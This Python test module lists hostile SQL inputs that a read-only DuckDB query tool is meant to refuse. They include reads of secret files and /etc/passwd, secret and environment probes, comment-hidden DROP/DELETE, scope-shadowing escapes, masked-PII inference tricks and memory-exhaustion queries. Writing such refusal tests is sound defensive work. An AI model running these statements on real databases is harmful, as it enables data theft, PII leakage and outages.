"""The hostile SQL corpus: statements that must never run through `run_sql`.

Each case: the SQL (`{dir}` is a folder holding a real `secret.csv`, `secret.parquet` and `other.duckdb`),
the word the refusal must name (statement type or function), whether it reaches outside the read-only
warehouse (files, network, extensions, settings, other databases, writes) so that DuckDB's sandbox must
refuse it on its own too, and the dialect it is written in.
"""
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    sql: str
    names: str
    outside: bool
    dialect: str | None = None


CORPUS: list[Hostile] = [
    # file-reading and file-listing table functions
    Hostile("SELECT * FROM read_csv('{dir}/secret.csv')", "read_csv", True),
    Hostile("SELECT * FROM read_csv_auto('{dir}/secret.csv')", "read_csv_auto", True),
    Hostile("FROM read_csv(['{dir}/secret.csv', '/etc/hostname'])", "read_csv", True),
    Hostile("SELECT * FROM read_parquet('{dir}/secret.parquet')", "read_parquet", True),
    Hostile("SELECT * FROM parquet_scan('{dir}/secret.parquet')", "parquet_scan", True),
    Hostile("SELECT * FROM parquet_metadata('{dir}/secret.parquet')", "parquet_metadata", True),
    Hostile("SELECT * FROM read_json_auto('{dir}/secret.csv')", "read_json_auto", True),
    Hostile("SELECT * FROM read_text('{dir}/secret.csv')", "read_text", True),
    Hostile("SELECT * FROM read_blob('{dir}/secret.csv')", "read_blob", True),
    Hostile("SELECT * FROM glob('{dir}/*')", "glob", True),
    Hostile("SELECT * FROM sniff_csv('{dir}/secret.csv')", "sniff_csv", True),
    Hostile("SELECT * FROM read_csv('https://example.com/leak.csv')", "read_csv", True),
    Hostile("SELECT * FROM orders, read_csv('{dir}/secret.csv')", "read_csv", True),
    Hostile("SELECT (SELECT count(*) FROM read_text('{dir}/secret.csv')) AS n", "read_text", True),
    Hostile("SELECT * FROM orders WHERE order_id IN (SELECT 1 FROM glob('{dir}/*'))", "glob", True),
    Hostile("SUMMARIZE SELECT * FROM read_csv('{dir}/secret.csv')", "read_csv", True),
    Hostile("DESCRIBE SELECT * FROM read_csv('{dir}/secret.csv')", "read_csv", True),
    # file paths as table names
    Hostile("SELECT * FROM '{dir}/secret.csv'", "file path", True),
    Hostile("SELECT * FROM \"{dir}/secret.parquet\"", "file path", True),
    # writing files, other databases, extensions
    Hostile("COPY orders TO '{dir}/out.csv'", "COPY", True),
    Hostile("COPY (SELECT * FROM customers) TO '{dir}/out.parquet' (FORMAT parquet)", "COPY", True),
    Hostile("EXPORT DATABASE '{dir}/export'", "EXPORT", True),
    Hostile("IMPORT DATABASE '{dir}/export'", "IMPORT", True),
    Hostile("ATTACH '{dir}/other.duckdb' AS other", "ATTACH", True),
    Hostile("ATTACH ':memory:' AS scratch", "ATTACH", True),
    Hostile("DETACH warehouse", "DETACH", True),
    Hostile("INSTALL httpfs", "INSTALL", True),
    Hostile("LOAD httpfs", "LOAD", True),
    Hostile("SELECT * FROM other.main.orders", "another database", True),
    Hostile("SELECT * FROM information_schema.tables", "information_schema", False),
    # settings and secrets
    Hostile("SET enable_external_access = true", "SET", True),
    Hostile("SET memory_limit = '100GB'", "SET", True),
    Hostile("RESET memory_limit", "RESET", True),
    Hostile("PRAGMA enable_profiling", "PRAGMA", True),
    Hostile("PRAGMA database_list", "PRAGMA", False),
    Hostile("SELECT current_setting('home_directory')", "current_setting", False),
    Hostile("SELECT * FROM duckdb_settings()", "duckdb_settings", False),
    Hostile("SELECT * FROM duckdb_secrets()", "duckdb_secrets", False),
    Hostile("SELECT * FROM which_secret('s3://bucket/key', 's3')", "which_secret", False),
    Hostile("SELECT * FROM duckdb_extensions()", "duckdb_extensions", True),
    Hostile("SELECT * FROM system.main.duckdb_settings()", "duckdb_settings", False),
    Hostile("SELECT getenv('HOME')", "getenv", True),
    Hostile("CREATE SECRET leak (TYPE s3, KEY_ID 'k', SECRET 's')", "CREATE", True),
    Hostile("CALL enable_logging()", "CALL", True),
    # dynamic SQL
    Hostile("SELECT * FROM query('SELECT * FROM customers')", "query", False),
    Hostile("SELECT * FROM query_table('customers')", "query_table", False),
    Hostile("SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
            "json_execute_serialized_sql", False),
    # writes, DDL and statements that change the session
    Hostile("DROP TABLE orders", "DROP", True),
    Hostile("DELETE FROM customers", "DELETE", True),
    Hostile("UPDATE customers SET email = 'x@evil.test'", "UPDATE", True),
    Hostile("INSERT INTO orders VALUES (99, 1, 'completed')", "INSERT", True),
    Hostile("MERGE INTO orders USING orders AS o2 ON orders.order_id = o2.order_id WHEN MATCHED THEN DELETE",
            "MERGE", True),
    Hostile("CREATE TABLE stolen AS SELECT * FROM customers", "CREATE TABLE", True),
    Hostile("CREATE TEMP TABLE scratch AS SELECT * FROM customers", "CREATE TABLE", False),
    Hostile("CREATE OR REPLACE MACRO m() AS 1", "CREATE", True),
    Hostile("ALTER TABLE orders ADD COLUMN x INTEGER", "ALTER", True),
    Hostile("TRUNCATE orders", "TRUNCATE", True),
    Hostile("CHECKPOINT", "CHECKPOINT", False),
    Hostile("VACUUM", "VACUUM", False),
    Hostile("USE memory", "USE", False),
    Hostile("BEGIN TRANSACTION", "BEGIN", False),
    Hostile("CALL pragma_version()", "CALL", False),
    # several statements, DDL hidden behind comments
    Hostile("SELECT 1; DROP TABLE orders", "2 statements", True),
    Hostile("SELECT 1 /* harmless */; DELETE FROM orders", "DELETE", True),
    Hostile("SELECT * FROM orders; SELECT * FROM read_csv('{dir}/secret.csv')", "2 statements", True),
    Hostile("-- just a comment\nDROP TABLE orders", "DROP", True),
    Hostile("/* SELECT 1 */ DELETE FROM orders", "DELETE", True),
    # writes wrapped in reads
    Hostile("WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone", "DELETE", True),
    Hostile("EXPLAIN ANALYZE DELETE FROM orders", "DELETE", True),
    Hostile("EXPLAIN ANALYZE SELECT * FROM read_csv('{dir}/secret.csv')", "read_csv", True),
    Hostile("PIVOT orders ON status USING count(*)", "PIVOT", False),
    # quoting and unicode tricks
    Hostile("SELECT * FROM \"read_csv\"('{dir}/secret.csv')", "read_csv", True),
    Hostile("SELECT * FROM READ_CSV('{dir}/secret.csv')", "read_csv", True),
    Hostile("SELECT * FROM main.read_csv('{dir}/secret.csv')", "read_csv", True),
    Hostile("SELECT * FROM read_csv\u200b('{dir}/secret.csv')", "read_csv", True),
    # other dialects: transpiled first, then judged
    Hostile("SELECT * INTO stolen FROM customers", "SELECT INTO", True, "postgres"),
    Hostile("SELECT pg_read_file('/etc/passwd')", "pg_read_file", True, "postgres"),
    Hostile("COPY orders TO '{dir}/out.csv'", "COPY", True, "postgres"),
    Hostile("SELECT LOAD_FILE('{dir}/secret.csv')", "load_file", True, "mysql"),
    Hostile("SELECT * FROM @my_stage/secret.csv", "file path", True, "snowflake"),
    Hostile("EXPORT DATA OPTIONS(uri='gs://bucket/x-*.csv', format='CSV') AS SELECT * FROM customers", "EXPORT",
            True, "bigquery"),
    Hostile("SELECT * FROM csv.`{dir}/secret.csv`", "file path", True, "spark"),
    Hostile("SELECT * FROM file('{dir}/secret.csv')", "file", True, "clickhouse"),
]


# ---- table references resolved by scope -------------------------------------------------------------
# Each must be refused for anyone (admin included): a CTE of the same name anywhere in the statement never
# makes a system relation, a catalog view or a table function readable.
SCOPE_ESCAPES: list[str] = [
    # the name shadowed in a scalar subquery, a UNION branch, a lateral item, EXISTS, IN, ORDER BY, QUALIFY
    "SELECT (WITH pg_settings AS (SELECT 1 AS x) SELECT x FROM pg_settings) AS y, s.name, s.setting FROM pg_settings s",
    "SELECT name FROM sqlite_master UNION ALL (WITH sqlite_master AS (SELECT 'x' AS name) SELECT name FROM sqlite_master)",
    "(WITH duckdb_tables AS (SELECT 'x' AS table_name) SELECT table_name FROM duckdb_tables) "
    "UNION ALL SELECT table_name FROM duckdb_tables",
    "SELECT t.table_name FROM duckdb_tables t, LATERAL (WITH duckdb_tables AS (SELECT 1 AS k) "
    "SELECT k FROM duckdb_tables) l",
    "SELECT p.proname FROM pg_proc p WHERE EXISTS (WITH pg_proc AS (SELECT 1 AS one) SELECT one FROM pg_proc)",
    "SELECT name FROM pg_settings WHERE name IN (WITH pg_settings AS (SELECT 'a' AS name) SELECT name FROM pg_settings)",
    "SELECT name, setting FROM pg_settings ORDER BY (WITH pg_settings AS (SELECT 1 AS k) SELECT k FROM pg_settings)",
    "SELECT name FROM pg_settings QUALIFY row_number() OVER () < (WITH pg_settings AS (SELECT 5 AS n) "
    "SELECT n FROM pg_settings)",
    "SELECT s.name FROM orders o JOIN pg_settings s ON o.order_id < (WITH pg_settings AS (SELECT 3 AS n) "
    "SELECT n FROM pg_settings)",
    "SELECT * FROM (VALUES ((WITH sqlite_master AS (SELECT 1 AS x) SELECT x FROM sqlite_master))) v(a), sqlite_master",
    # a CTE nested inside another CTE's body is not visible beside it
    "WITH a AS (WITH sqlite_master AS (SELECT 1 AS x) SELECT x FROM sqlite_master), "
    "b AS (SELECT sql FROM sqlite_master) SELECT sql FROM b",
    # a CTE referring to one defined after it reads the real relation
    "WITH x AS (SELECT name, setting FROM pg_settings), pg_settings AS (SELECT 1 AS n) SELECT name, setting FROM x",
    # a recursive CTE of the same name in a subquery
    "SELECT (WITH RECURSIVE duckdb_views(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM duckdb_views WHERE n < 3) "
    "SELECT max(n) FROM duckdb_views) AS m, v.sql FROM duckdb_views v",
    # case and quoting games with the same name
    "WITH PG_SETTINGS AS (SELECT 1 AS x) SELECT s.name FROM (SELECT x FROM pg_settings) q, \"pg_settings\" s",
    "SELECT (WITH \"Duckdb_Settings\" AS (SELECT 1 AS x) SELECT x FROM duckdb_settings) AS y, value FROM DUCKDB_SETTINGS",
    # system relations and catalog views by every spelling
    "SELECT * FROM pg_settings",
    "FROM duckdb_settings",
    "SELECT * FROM duckdb_views",
    "SELECT * FROM (FROM duckdb_databases)",
    "SELECT * FROM pg_catalog.pg_settings",
    "SELECT * FROM information_schema.columns",
    "SELECT * FROM system.main.duckdb_tables",
    "SELECT * FROM temp.main.orders",
    "SELECT * FROM orders, LATERAL (SELECT * FROM sqlite_master) m",
    "SELECT * FROM customers WHERE customer_id IN (SELECT 1 FROM duckdb_columns())",
    # table functions outside the allow-list, in every position
    "SELECT * FROM test_all_types()",
    "SELECT * FROM repeat_row(1, num_rows => 3)",
    "SELECT * FROM json_each('[1, 2]')",
    "SELECT * FROM orders, LATERAL test_vector_types(NULL::INTEGER) t",
    "SELECT * FROM pragma_table_info('customers')",
    "SELECT * FROM duckdb_functions()",
    "SELECT * FROM range(3) r, duckdb_constraints()",
    "SELECT (SELECT count(*) FROM duckdb_memory()) AS n",
    "WITH duckdb_functions AS (SELECT 1 AS x) SELECT * FROM duckdb_functions()",
    "SELECT current_query() AS q",
    # statements around reads
    "DESCRIBE pg_settings",
    "SUMMARIZE pg_settings",
    "SHOW pg_settings",
    "EXPLAIN SELECT * FROM pg_settings",
    "EXPLAIN ANALYZE SELECT * FROM duckdb_settings",
    "PRAGMA show_tables",
    "PRAGMA table_info('customers')",
    "ATTACH ':memory:' AS pg_settings",
    "COPY (WITH pg_settings AS (SELECT 1) SELECT * FROM pg_settings) TO '/tmp/x.csv'",
    "PIVOT pg_settings ON name USING first(setting)",
]

# Harmless statements that must run for anyone, with their rows.
HARMLESS: list[tuple[str, list[list]]] = [
    ("SELECT count(*) AS n FROM orders; -- that is all", [[10]]),
    ("SELECT 1 AS a; /* trailing */", [[1]]),
    ("SELECT 2 AS b;\n-- one\n-- two\n", [[2]]),
    ("SELECT o.order_id, l.total FROM orders o, LATERAL (SELECT sum(amount) AS total FROM order_items i "
     "WHERE i.order_id = o.order_id) l WHERE o.order_id = 1", [[1, 60]]),
    ("SELECT o.order_id, l.n FROM orders o CROSS JOIN LATERAL (SELECT count(*) AS n FROM order_items i "
     "WHERE i.order_id = o.order_id) AS l WHERE o.order_id <= 2 ORDER BY 1", [[1, 3], [2, 2]]),
    ("WITH orders AS (SELECT 1 AS order_id) SELECT order_id FROM orders", [[1]]),
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT sum(n) AS s FROM r", [[6]]),
    ("SELECT sum(x) AS s FROM generate_series(1, 3) AS t(x)", [[6]]),
    ("WITH a AS (SELECT 1 AS x), b AS (SELECT x + 1 AS y FROM a) SELECT y FROM b", [[2]]),
    ("SELECT (WITH t AS (SELECT 5 AS v) SELECT v FROM t) AS v, count(*) AS n FROM orders", [[5, 10]]),
    ("SELECT len(range(10)) AS n", [[10]]),
]


# ---- PII as a principal without the grant ----------------------------------------------------------
# `rows` is the exact answer such a principal must get (computed only from masked values); None where the
# statement must be refused. The raw values are in tests/sql_workspace.py CUSTOMERS.
@dataclass(frozen=True)
class PiiAttack:
    sql: str
    rows: list[list] | None = None
    any_answer: bool = False  # True: the rows depend on the masking's random order; only checked for raw values


M = "****"
SIX = [[i] for i in range(1, 7)]
PII_ATTACKS: list[PiiAttack] = [
    # predicates
    PiiAttack("SELECT count(*) AS n FROM customers WHERE email LIKE 'a%'", [[0]]),
    PiiAttack("SELECT customer_id FROM customers WHERE email = 'ann@example.com'", []),
    PiiAttack("SELECT customer_id FROM customers WHERE substr(email, 1, 1) = 'a'", []),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE email[1] = 'a'", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE starts_with(email, 'ann')", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE contains(email, '@')", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE position('@' IN email) = 4", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE levenshtein(email, 'ann@example.com') < 3", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE email ILIKE 'A%' OR email SIMILAR TO 'b.*' "
              "OR email GLOB 'c*' OR email ~ '^d'", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE lower(email) BETWEEN 'a' AND 'z'", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE length(email) = 15", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE full_name = 'Ann Lee' OR phone LIKE '+1%'", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE phone IS NULL", [[1]]),  # a missing value is not PII
    PiiAttack("SELECT count(*) AS n FROM customers WHERE email::BLOB = 'ann@example.com'::BLOB", [[0]]),
    # a token's characters come from a per-query salted hash: this count changes from query to query and tells
    # nothing of the value, so only its cells are checked
    PiiAttack("SELECT count(*) AS n FROM customers WHERE "
              "len(list_filter(string_split(email, ''), x -> x = 'a')) > 0", any_answer=True),
    PiiAttack("SELECT count(*) FILTER (WHERE ascii(email) = 97) AS a FROM customers", [[0]]),
    PiiAttack("SELECT customer_id FROM customers WHERE email LIKE 'a%' UNION ALL SELECT 99", [[99]]),
    # ordering and LIMIT bisection
    PiiAttack("SELECT count(*) AS n FROM customers WHERE email < 'c'", [[6]]),
    PiiAttack("SELECT customer_id FROM customers WHERE email > 'd' ORDER BY 1", []),
    PiiAttack("SELECT customer_id FROM customers ORDER BY email LIMIT 1", any_answer=True),
    PiiAttack("SELECT customer_id FROM customers ORDER BY email DESC LIMIT 1 OFFSET 2", any_answer=True),
    PiiAttack("SELECT customer_id FROM customers WHERE email = (SELECT max(email) FROM customers)", any_answer=True),
    # hashing to compare, regexp
    PiiAttack("SELECT customer_id FROM customers WHERE md5(email) = md5('ann@example.com')", []),
    PiiAttack("SELECT customer_id FROM customers WHERE hash(email) = hash('ann@example.com')", []),
    PiiAttack("SELECT customer_id FROM customers WHERE sha256(lower(email)) = sha256('bo@example.com')", []),
    PiiAttack("SELECT customer_id FROM customers WHERE regexp_matches(email, '^a')", []),
    PiiAttack("SELECT regexp_extract(email, '^(.)', 1) AS c FROM customers", [[M]] * 6),
    # per-character and length outputs
    PiiAttack("SELECT customer_id, length(email) AS n FROM customers ORDER BY 1", [[i, M] for i in range(1, 7)]),
    PiiAttack("SELECT sum(CASE WHEN email LIKE 'a%' THEN 1 ELSE 0 END) AS a FROM customers", [[M]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE length(email) > 14", [[6]]),
    PiiAttack("WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r WHERE i < 3) "
              "SELECT count(*) AS n FROM r, customers WHERE substr(email, i, 1) = 'a'", [[0]]),
    # star modifiers and COLUMNS
    PiiAttack("SELECT * LIKE 'e%' FROM customers", any_answer=True),
    PiiAttack("SELECT * SIMILAR TO 'e.*' FROM customers", any_answer=True),
    PiiAttack("SELECT COLUMNS('email') FROM customers"),
    PiiAttack("SELECT COLUMNS(c -> c LIKE 'e%') FROM customers"),
    PiiAttack("SELECT * EXCLUDE (customer_id, region) FROM customers WHERE customer_id = 1", [[M, M, M]]),
    PiiAttack("SELECT * REPLACE (lower(email) AS email) FROM customers WHERE customer_id = 1",
              [[1, M, M, M, "EMEA"]]),
    PiiAttack("SELECT * RENAME (email AS contact) FROM customers WHERE customer_id = 1", [[1, M, M, M, "EMEA"]]),
    # lists, unnest, aggregates, structs
    PiiAttack("SELECT unnest(list(email)) AS e FROM customers", any_answer=True),
    PiiAttack("SELECT x FROM unnest((SELECT list(email) FROM customers)) AS t(x)", [[M]] * 6),
    PiiAttack("SELECT string_agg(email, ',') AS s FROM customers", [[M]]),
    PiiAttack("SELECT list_filter(list(email), x -> x LIKE 'a%') AS l FROM customers", [[M]]),
    PiiAttack("SELECT struct_pack(e := email) AS s FROM customers WHERE customer_id = 1", [[M]]),
    PiiAttack("SELECT min(email) AS lo, max(length(email)) AS hi FROM customers", [[M, M]]),
    PiiAttack("SELECT count(DISTINCT email) AS n, count(*) AS rows_ FROM customers", [[6, 6]]),
    PiiAttack("SELECT greatest(email, 'b') AS g FROM customers WHERE customer_id = 1", [[M]]),
    # window functions over PII
    PiiAttack("SELECT customer_id, first_value(email) OVER (ORDER BY customer_id) AS f FROM customers "
              "WHERE customer_id = 1", [[1, M]]),
    PiiAttack("SELECT customer_id, rank() OVER (ORDER BY email) AS r FROM customers", any_answer=True),
    PiiAttack("SELECT customer_id FROM customers QUALIFY row_number() OVER (ORDER BY email) = 1", any_answer=True),
    PiiAttack("SELECT customer_id FROM customers QUALIFY count(*) OVER () > 0 AND email LIKE 'a%'", []),
    # GROUP BY and joins on PII
    PiiAttack("SELECT count(*) AS n FROM customers GROUP BY email", [[1]] * 6),
    PiiAttack("SELECT region, count(*) AS n FROM customers WHERE email LIKE '%example.com' GROUP BY region", []),
    PiiAttack("SELECT a.customer_id FROM customers a JOIN customers b ON a.email = b.email ORDER BY 1", SIX),
    PiiAttack("SELECT c.customer_id FROM customers c JOIN (SELECT 'ann@example.com' AS e) g ON g.e = c.email", []),
    PiiAttack("SELECT count(*) AS n FROM customers c JOIN orders o ON o.status = c.email OR "
              "(o.customer_id = c.customer_id AND c.email LIKE 'a%')", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers NATURAL JOIN (SELECT 'ann@example.com' AS email)", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers JOIN (SELECT 'bo@example.com' AS email) USING (email)", [[0]]),
    PiiAttack("SELECT customer_id FROM customers WHERE email IN (SELECT 'ann@example.com')", []),
    PiiAttack("SELECT count(*) AS n FROM customers c WHERE EXISTS (SELECT 1 FROM customers d "
              "WHERE d.email LIKE 'a%' AND d.customer_id = c.customer_id)", [[0]]),
    # set operations
    PiiAttack("SELECT email FROM customers INTERSECT SELECT 'ann@example.com'", []),
    PiiAttack("SELECT 'ann@example.com' AS e EXCEPT SELECT email FROM customers", [[M]]),
    # CTE, alias and qualification forms of the same table
    PiiAttack("SELECT (WITH customers AS (SELECT 1 AS x) SELECT x FROM customers) AS y, c.email FROM customers c "
              "ORDER BY c.customer_id", [[1, M]] * 6),
    PiiAttack("WITH customers AS (SELECT * FROM customers) SELECT count(*) AS n FROM customers "
              "WHERE email LIKE 'a%'", [[0]]),
    PiiAttack("WITH x AS (SELECT email AS e FROM customers) SELECT count(*) AS n FROM x WHERE e LIKE 'a%'", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM (SELECT email AS e FROM customers) WHERE e LIKE 'a%'", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers AS c(i, nm, em, ph, rg) WHERE em LIKE 'a%'", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM main.customers WHERE email LIKE 'a%'", [[0]]),
    PiiAttack("SELECT count(*) AS n FROM customers WHERE customers.email LIKE 'a%'", [[0]]),
    PiiAttack("FROM customers SELECT email WHERE customer_id = 1", [[M]]),
    PiiAttack("SELECT email FROM customers USING SAMPLE 2", [[M]] * 2),
    PiiAttack("SELECT o.order_id FROM orders o, LATERAL (SELECT email FROM customers c "
              "WHERE c.customer_id = o.customer_id AND c.email LIKE 'a%') l", []),
    # error oracles and casts
    PiiAttack("SELECT CASE WHEN email LIKE 'a%' THEN error('hit') END AS x FROM customers", [[None]] * 6),
    PiiAttack("SELECT CAST(email AS INTEGER) AS x FROM customers"),
    PiiAttack("SELECT 1 / (CASE WHEN email LIKE 'a%' THEN 0 ELSE 1 END) AS x FROM customers", [[M]] * 6),
    # statements around reads
    PiiAttack("EXPLAIN ANALYZE SELECT customer_id FROM customers WHERE email LIKE 'a%'"),
    PiiAttack("SUMMARIZE SELECT substr(email, 1, 1) AS c FROM customers", any_answer=True),
    PiiAttack("SUMMARIZE customers", any_answer=True),
    PiiAttack("PIVOT customers ON email USING count(*)"),
    PiiAttack("SELECT * FROM customers PIVOT (count(*) FOR email IN ('ann@example.com'))"),
]

# ---- resource exhaustion --------------------------------------------------------------------------
# Each is refused before it runs or interrupted by the watchdog; the process stays usable afterwards.
RESOURCE_ATTACKS: list[str] = [
    "SELECT len(range(1000000000)) AS n",
    "SELECT len(generate_series(1, 5000000000)) AS n",
    "SELECT len(range(0, 1000000000000, 2)) AS n",
    "SELECT length(repeat('x', 2000000000)) AS n",
    "SELECT len(list_resize([1], 1000000000)) AS n",
    "SELECT length(lpad('x', 1000000000, 'y')) AS n",
    "SELECT length(printf('%1000000000d', 1)) AS n",
    "SELECT len(range(n * 1000000)) AS m FROM numbers WHERE n = 2999",
    "SELECT length(repeat('ab', (SELECT max(n) FROM numbers) * 1000000)) AS m",
    "SELECT count(*) AS n FROM numbers a, numbers b, numbers c WHERE (a.n * 7 + b.n * 3 + c.n) % 11 = 4",
    "SELECT len(range(TIMESTAMP '2000-01-01', TIMESTAMP '2100-01-01', INTERVAL 1 SECOND)) AS n",
    "WITH RECURSIVE r(s, i) AS (SELECT 'x', 0 UNION ALL SELECT s || s, i + 1 FROM r WHERE i < 40) "
    "SELECT max(length(s)) AS n FROM r",
    "SELECT max(len(l)) AS n FROM (SELECT range(9000000) AS l FROM range(40))",
    "SELECT bar(1, 0, 10, 1000000000) AS b",
    "SELECT length(format('{:>1000000000}', 'x')) AS n",
    "SELECT len(list_resize([1], n * 100000)) AS m FROM numbers WHERE n = 2999",
    "SELECT length(rpad('x', (SELECT max(n) FROM numbers) * 1000000, 'y')) AS m",
    "SELECT length(string_agg(repeat('x', 5000000), '')) AS n FROM range(1000)",
    "SELECT count(*) AS n FROM (SELECT unnest(range(0, 2000000000, 1)) AS x)",
    "SELECT len(range(-5000000000)) + len(range(0, -5000000000, -1)) AS n",
    # sizes DuckDB would fold as constants while planning, before any check that runs with the query
    "SELECT len(range(1000 * 1000000)) AS n",
    "SELECT length(repeat('ab', 1000 * 1000000)) AS n",
    "SELECT len(range(DATE '0001-01-01', DATE '9999-12-31', INTERVAL 1 SECOND)) AS n",
    "SELECT len(range(TIMESTAMP '2000-01-01', TIMESTAMP '2000-01-01' + INTERVAL 300 YEAR, INTERVAL 1 MINUTE)) AS n",
    # each call within the bound, many calls in one vectorised step
    "SELECT len(flatten(list_transform(range(1000), x -> range(1000000)))) AS n",
    "SELECT sum(len(range(n * 3000))) AS m FROM numbers",
    "SELECT len([y FOR y IN range(5000000) FOR z IN range(400)]) AS n",
]
